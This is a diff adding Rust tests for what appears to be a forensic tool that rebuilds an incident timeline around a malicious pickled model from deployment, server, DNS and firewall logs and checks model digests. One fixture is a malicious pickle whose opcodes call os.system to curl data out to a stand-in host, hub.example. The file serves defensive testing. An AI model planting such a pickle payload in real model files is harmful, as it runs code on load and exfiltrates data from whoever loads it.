@@ -1,0 +1,168 @@
+//! Small stories as recipes: which record brought the model in, which alert is about it, which digest counts.
+
+use std::collections::BTreeMap;
+use wb_core::{Case, KeyMoment, Role};
+use wb_engine::{InvestigateOptions, Silent, investigate};
+use wb_testkit::{Recipe, Scratch};
+
+/// A clean and a malicious model under one name.
+const MODELS: &str = r#"
+[[file]]
+path = "live/rank.pkl"
+pickle = """
+PROTO 2
+GLOBAL os system
+BINUNICODE curl -d x https://hub.example/b
+TUPLE1
+REDUCE
+STOP
+"""
+[[file]]
+path = "golden/rank.pkl"
+pickle = """
+PROTO 2
+EMPTY_DICT
+STOP
+"""
+"#;
+
+/// Two innocent models under one name.
+const TWINS: &str = r#"
+[[file]]
+path = "models/production/rank.pkl"
+pickle = """
+PROTO 2
+EMPTY_DICT
+STOP
+"""
+[[file]]
+path = "models/baseline/rank.pkl"
+pickle = """
+PROTO 2
+EMPTY_LIST
+STOP
+"""
+"#;
+
+const TRAFFIC: &str = "\
+    2026-03-05T10:00:30Z ALLOW TCP 10.0.0.5:4000 -> 203.0.113.9:443 host=hub.example\n\
+    2026-03-05T10:10:30Z ALLOW TCP 10.0.0.5:4001 -> 203.0.113.9:443 host=hub.example\n\
+    2026-03-05T10:20:30Z DENY TCP 10.0.0.5:4002 -> 203.0.113.9:443 host=hub.example\n";
+
+/// The case of the models and `logs`, path and text each.
+fn case(models: &str, logs: &[(&str, &str)]) -> Case {
+    let mut recipe = models.to_owned();
+    for (path, text) in logs {
+        recipe.push_str(&format!("[[file]]\npath = \"{path}\"\ntext = '''\n{text}'''\n"));
+    }
+    let built = Recipe::parse(&recipe).and_then(|recipe| recipe.build()).expect("a recipe");
+    let folder =
+        built.into_iter().fold(Scratch::new(), |folder, (path, bytes)| folder.with(&path, bytes));
+    investigate(folder.folder(), &InvestigateOptions::default(), &Silent).expect("a case")
+}
+
+/// Where a key moment stands, as `path:line`.
+fn moment(case: &Case, key: KeyMoment) -> String {
+    let entry = case.timeline.iter().find(|entry| entry.key == Some(key));
+    entry.map_or("missing".to_owned(), |entry| {
+        format!("{}:{}", entry.record.artifact, entry.record.line)
+    })
+}
+
+#[test]
+fn a_load_that_follows_a_deployment_in_another_log_did_not_bring_the_model_in() {
+    let pipeline = "2026-03-05 09:59:00 INFO Deploying rank.pkl to production\n\
+                    2026-03-05 09:59:10 INFO Deployment successful\n";
+    let server = "2026-03-05 09:59:40 INFO Loaded model rank.pkl\n\
+                  2026-03-05 10:00:00 INFO server started\n";
+    let case = case(MODELS, &[("ci.log", pipeline), ("server.log", server), ("net.log", TRAFFIC)]);
+    assert_eq!(moment(&case, KeyMoment::Introduced), "ci.log:1");
+    assert_eq!(moment(&case, KeyMoment::Loaded), "server.log:1");
+    assert_eq!(moment(&case, KeyMoment::FirstOutbound), "net.log:1");
+    assert_eq!(moment(&case, KeyMoment::FirstBlock), "net.log:3");
+}
+
+#[test]
+fn a_nightly_restart_after_a_deployment_brings_nothing_in_and_an_unordered_change_does() {
+    let deployed = "2026-03-01 08:00:00 INFO rank.pkl deployed to production, change CHG-7\n\
+                    2026-03-04 03:00:00 INFO nightly restart, server restarted\n\
+                    2026-03-04 03:00:09 INFO Loaded model rank.pkl\n";
+    let case_of = |log: &str| case(MODELS, &[("deploy.log", log), ("net.log", TRAFFIC)]);
+    assert_eq!(moment(&case_of(deployed), KeyMoment::Introduced), "deploy.log:1");
+    let changed =
+        format!("{deployed}2026-03-05 09:59:50 WARN model file rank.pkl changed on disk\n");
+    assert_eq!(moment(&case_of(&changed), KeyMoment::Introduced), "deploy.log:4");
+    // A change of something else is none of the model.
+    let other = format!("{deployed}2026-03-05 09:59:50 INFO configuration file changed\n");
+    assert_eq!(moment(&case_of(&other), KeyMoment::Introduced), "deploy.log:1");
+}
+
+#[test]
+fn a_deployment_that_recorded_other_bytes_is_not_the_one() {
+    let log = "2026-03-01 08:00:00 INFO Loaded model rank.pkl\n\
+               2026-03-01 08:00:05 INFO rank.pkl digest=sha256:@sha256(golden/rank.pkl)@\n\
+               2026-03-05 10:00:20 INFO Loaded model rank.pkl\n";
+    let case = case(MODELS, &[("server.log", log), ("net.log", TRAFFIC)]);
+    assert_eq!(moment(&case, KeyMoment::Introduced), "server.log:3");
+}
+
+#[test]
+fn an_alert_about_another_destination_or_from_before_is_no_detection() {
+    let alerts = "2026-03-05 10:05:00 ALERT unusual outbound connection to 198.51.100.4:443\n\
+                  2026-03-05 10:15:00 ALERT unusual outbound connection to 203.0.113.9:443\n";
+    let before =
+        "2026-03-05T08:00:00Z ALLOW TCP 10.0.0.5:400 -> 198.51.100.4:443 host=pkg.example\n";
+    let traffic = format!("{before}{TRAFFIC}");
+    let case = case(MODELS, &[("alerts.log", alerts), ("net.log", &traffic)]);
+    assert_eq!(moment(&case, KeyMoment::Detection), "alerts.log:2");
+    assert_eq!(moment(&case, KeyMoment::FirstOutbound), "net.log:2");
+    assert!(!case.indicators.iter().any(|known| known.indicator.value() == "198.51.100.4"));
+}
+
+#[test]
+fn look_ups_are_the_traffic_where_there_is_no_other() {
+    let log = "2026-03-05 09:59:00 INFO rank.pkl deployed to production\n";
+    let dns = "2026-03-05T10:00:20Z dnsmasq[8]: query[A] x.hub.example from 10.0.0.5\n\
+               2026-03-05T10:10:20Z dnsmasq[8]: query[A] x.hub.example from 10.0.0.5\n";
+    let asked = case(MODELS, &[("deploy.log", log), ("dns.log", dns)]);
+    assert_eq!(moment(&asked, KeyMoment::FirstOutbound), "dns.log:1");
+    let both = case(MODELS, &[("deploy.log", log), ("dns.log", dns), ("net.log", TRAFFIC)]);
+    assert_eq!(moment(&both, KeyMoment::FirstOutbound), "net.log:1");
+}
+
+fn matches(case: &Case) -> BTreeMap<String, Vec<Option<bool>>> {
+    let mut all: BTreeMap<String, Vec<Option<bool>>> = BTreeMap::new();
+    for entry in &case.integrity {
+        all.entry(entry.artifact.to_string()).or_default().push(entry.matches);
+    }
+    all
+}
+
+#[test]
+fn a_record_that_fits_what_runs_does_not_accuse_the_baseline_of_the_same_name() {
+    let log = "2026-03-01 08:00:00 INFO rank.pkl sha256=@sha256(models/production/rank.pkl)@ verified\n\
+               2026-03-01 08:00:09 INFO rank.pkl deployed to production\n";
+    let fits = matches(&case(TWINS, &[("deploy.log", log)]));
+    assert_eq!(fits["models/production/rank.pkl"], [Some(true)]);
+    assert_eq!(fits["models/baseline/rank.pkl"], [None]);
+    // The other way round what runs is not what was recorded.
+    let log = log.replace("(models/production", "(models/baseline");
+    let differs = matches(&case(TWINS, &[("deploy.log", &log)]));
+    assert_eq!(differs["models/production/rank.pkl"], [Some(false)]);
+    assert_eq!(differs["models/baseline/rank.pkl"], [Some(true)]);
+}
+
+#[test]
+fn an_update_on_record_outdates_the_digest_before_it() {
+    let zeros = "0".repeat(63);
+    let old = format!("2026-03-01 08:00:00 INFO rank.pkl sha256={zeros}1 verified\n");
+    let new =
+        "2026-03-09 08:00:00 INFO rank.pkl sha256=@sha256(models/production/rank.pkl)@ verified\n";
+    let updated = matches(&case(TWINS, &[("deploy.log", &format!("{old}{new}"))]));
+    assert_eq!(updated["models/production/rank.pkl"], [Some(true)]);
+    // A manifest has no time: what it says always counts.
+    let manifest = format!("{zeros}1  models/production/rank.pkl\n");
+    let case = case(TWINS, &[("deploy.log", new), ("SHA256SUMS", &manifest)]);
+    assert_eq!(case.roles[&"models/production/rank.pkl".into()].role, Role::Production);
+    assert!(matches(&case)["models/production/rank.pkl"].contains(&Some(false)));
+}
